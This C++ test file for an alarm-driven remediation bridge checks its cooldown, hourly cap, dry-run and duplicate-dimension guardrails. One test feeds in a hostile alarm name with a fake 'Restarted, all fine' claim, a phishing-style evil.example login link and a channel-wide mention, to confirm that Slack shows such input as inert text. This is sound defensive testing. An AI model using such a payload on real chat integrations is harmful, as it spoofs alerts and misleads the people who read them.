    EXPECT_EQ(cooling[0].kind, decision_kind::skipped);
    EXPECT_NE(cooling[0].reason.find("cooldown: the same action ran on this Auto Scaling group less than 600 s ago"), std::string::npos)
        << cooling[0].reason;
    EXPECT_TRUE(cooling[0].notify);
    // Another group, and an instance alarm, are not cooling down.
    EXPECT_EQ(run(r, alarm("api-httpd", "api-asg", "2022-06-28T01:58:10.000+0000"))[0].kind, decision_kind::sent);
    EXPECT_EQ(run(r, seed_event())[0].kind, decision_kind::sent);
    EXPECT_EQ(count("SendCommand"), 3);
    // After the cooldown, once more; then the hourly cap of 2 leaves the group alone.
    time->advance(std::chrono::seconds(600));
    EXPECT_EQ(run(r, alarm("web-httpd-a", "web-asg", "2022-06-28T02:09:00.000+0000"))[0].kind, decision_kind::sent);
    time->advance(std::chrono::seconds(600));
    const auto capped = run(r, alarm("web-httpd-a", "web-asg", "2022-06-28T02:19:00.000+0000"));
    EXPECT_EQ(capped[0].kind, decision_kind::skipped);
    EXPECT_NE(capped[0].reason.find("hourly cap: the action already ran 2 times on this Auto Scaling group"), std::string::npos)
        << capped[0].reason;
    EXPECT_EQ(count("SendCommand"), 4);
}

TEST_F(remediate_guardrails, a_group_dry_run_says_what_would_run_on_which_group) {
    auto r = make(enforce_group, "group-success", true);
    const auto d = run(r, group_event("web-asg"));
    EXPECT_EQ(d[0].kind, decision_kind::dry_run);
    EXPECT_EQ(alarmbridge::remediate::to_json(d[0]).dump(),
              R"({"record":0,"rule":"restart-in-group","decision":"dry_run","reason":"dry run (--dry-run): nothing was sent",)"
              R"("auto_scaling_group":"web-asg","targets":[{"Key":"tag:aws:autoscaling:groupName","Values":["web-asg"]}],)"
              R"("max_concurrency":"1","max_errors":"0","document":"alarmbridge-RestartService","parameters":{"ServiceName":["httpd"]}})");
    const auto m = alarmbridge::remediate::outcome_message(d[0]);
    expect_inert(d[0]);
    EXPECT_NE(m.text->find(":test_tube: Dry run for `jisoo-test-cw`: would run `alarmbridge-RestartService` (`ServiceName=httpd`) on the "
                           "instances of Auto Scaling group `web-asg` (`1` at a time, stopping after `0` errors). `dry run (--dry-run): nothing was sent`"),
              std::string::npos)
        << *m.text;
    EXPECT_TRUE(received().empty());
}

// Review of issue 18, finding 7: an alarm name (and every other value from outside) carrying bold,
// emoji, a bare link, a mention and a host name is inert in Slack: every URL-like token and every
// formatting character of the payload outside code spans is the message's own.
TEST_F(remediate_guardrails, formatting_emoji_and_links_from_outside_are_never_live_in_slack) {
    const std::string hostile = "x* :white_check_mark: Restarted, all fine, see https://evil.example/login *y _i_ ~s~ "
                                "<!channel> <@U123|boss> www.evil.example evil.example/a mailto:a@evil.example";
    auto r = make(enforce, "success");
    std::vector<decision> decisions;
    for (const auto& d : run(r, seed_event([&](nlohmann::json& a) { a["AlarmName"] = hostile; }))) decisions.push_back(d);
    auto dry = make(enforce, "success", true);
    for (const auto& d : run(dry, seed_event([&](nlohmann::json& a) {
             a["AlarmName"] = hostile;
             a["StateChangeTime"] = "2022-06-28T02:00:00.000+0000";
         })))
        decisions.push_back(d);
    for (const auto& d : run(r, seed_event([&](nlohmann::json& a) {
             a["AlarmName"] = hostile;
             set_dimension(a, "exe", "evil.example");  // quoted in the reason
             a["StateChangeTime"] = "2022-06-28T02:01:00.000+0000";
         })))
        decisions.push_back(d);
    ASSERT_EQ(decisions.size(), 3u);
    EXPECT_EQ(decisions[0].kind, decision_kind::sent) << decisions[0].reason;
    EXPECT_EQ(decisions[1].kind, decision_kind::dry_run) << decisions[1].reason;
    EXPECT_EQ(decisions[2].kind, decision_kind::skipped) << decisions[2].reason;
    // Every field the message shows, hostile: a failed group command with instances and stderr.
    decision all = decisions[0];
    all.failed = true;
    all.reason = "sent; " + hostile;
    all.status = hostile;
    all.standard_error = hostile + "\n" + hostile;
    all.rule = hostile;
    all.command_id = hostile;
    all.parameters = {{hostile, {hostile, hostile}}};
    all.instance.reset();
    all.auto_scaling_group = alarmbridge::remediate::group_target{hostile, hostile, hostile};
    all.instances = {{hostile, hostile, hostile, 1, hostile}, {"i-1", "Success", "", 0, ""}};
    decisions.push_back(all);
    for (const auto& d : decisions) {
        expect_inert(d);
        // The hostile text is there, verbatim but for its '<' '>' '&', inside code spans.
        const auto m = alarmbridge::remediate::outcome_message(d);
        EXPECT_NE(m.text->find("`x* :white_check_mark: Restarted, all fine, see https://evil.example/login *y"), std::string::npos)
            << *m.text;
    }
    // The check itself finds what it is for: a bare link and bold outside a code span.
    EXPECT_EQ(url_like_tokens(outside_code("see https://evil.example/login `https://a.example`")),
              (std::vector<std::string>{"https://evil.example/login"}));
    EXPECT_EQ(url_like_tokens(outside_code("host evil.example.")), (std::vector<std::string>{"evil.example."}));
    EXPECT_EQ(outside_code("*a* `*b*` ```c```"), "*a* § §");
}

// Review of issue 18, finding 4: a dry run applies the guardrails too (with claims of its own):
// two deliveries of one state change -> one dry run; four state changes a minute apart -> one
// "would run" and three "would be skipped: cooldown", as enforce would. Enforce's claims are untouched.
TEST_F(remediate_guardrails, a_dry_run_applies_the_guardrails_without_taking_enforces_claims) {
    auto store = alarmbridge::remediate::make_memory_state_store(100);
    auto dry = make(enforce, "success", true, store);
    auto live = make(enforce, "success", false, store);

    const auto twice = run(dry, seed_event());
    const auto again = run(dry, seed_event());
    EXPECT_EQ(twice[0].kind, decision_kind::dry_run) << twice[0].reason;
    EXPECT_EQ(again[0].kind, decision_kind::skipped);
    EXPECT_FALSE(again[0].notify);  // a repeated delivery: Slack is not told again
    EXPECT_NE(again[0].reason.find("would be skipped: this state change was already acted on"), std::string::npos) << again[0].reason;
    for (const char* when : {"2022-06-28T01:58:35.603+0000", "2022-06-28T01:59:35.603+0000", "2022-06-28T02:00:35.603+0000"}) {
        time->advance(std::chrono::minutes(1));
        const auto d = run(dry, change_at(when));
        EXPECT_EQ(d[0].kind, decision_kind::skipped);
        EXPECT_TRUE(d[0].notify);
        EXPECT_FALSE(d[0].failed);
        EXPECT_EQ(d[0].reason.rfind("dry run (--dry-run): would be skipped: cooldown", 0), 0u) << d[0].reason;
    }
    EXPECT_TRUE(received().empty());
    // Enforce, on the same store, acts on the first state change: the dry run took none of its claims.
    const auto sent = run(live, seed_event());
    EXPECT_EQ(sent[0].kind, decision_kind::sent) << sent[0].reason;
    EXPECT_EQ(count("SendCommand"), 1);
}

// Review of issue 18, finding 9: exe=httpd and exe=sshd acted on httpd (the first). Now an alarm
// repeating a dimension name is refused, whichever dimension it is, and nothing is sent.
TEST_F(remediate_guardrails, an_alarm_repeating_a_dimension_name_is_refused) {
    auto r = make(enforce, "success");
    const auto d = run(r, seed_event([&](nlohmann::json& a) {
        a["Trigger"]["Dimensions"].push_back({{"value", "sshd"}, {"name", "exe"}});
    }));
    ASSERT_EQ(d.size(), 1u);
    EXPECT_EQ(d[0].kind, decision_kind::skipped);
    EXPECT_NE(d[0].reason.find("two dimensions named \"exe\""), std::string::npos) << d[0].reason;
    EXPECT_TRUE(d[0].notify);
    EXPECT_TRUE(d[0].parameters.empty());
    const auto again = run(r, seed_event([&](nlohmann::json& a) {
        a["Trigger"]["Dimensions"].push_back({{"value", "i-0123456789abcdef0"}, {"name", "InstanceId"}});
        a["StateChangeTime"] = "2022-06-28T02:30:00.000+0000";
    }));
    EXPECT_NE(again[0].reason.find("two dimensions named \"InstanceId\""), std::string::npos) << again[0].reason;
    EXPECT_TRUE(received().empty());
}
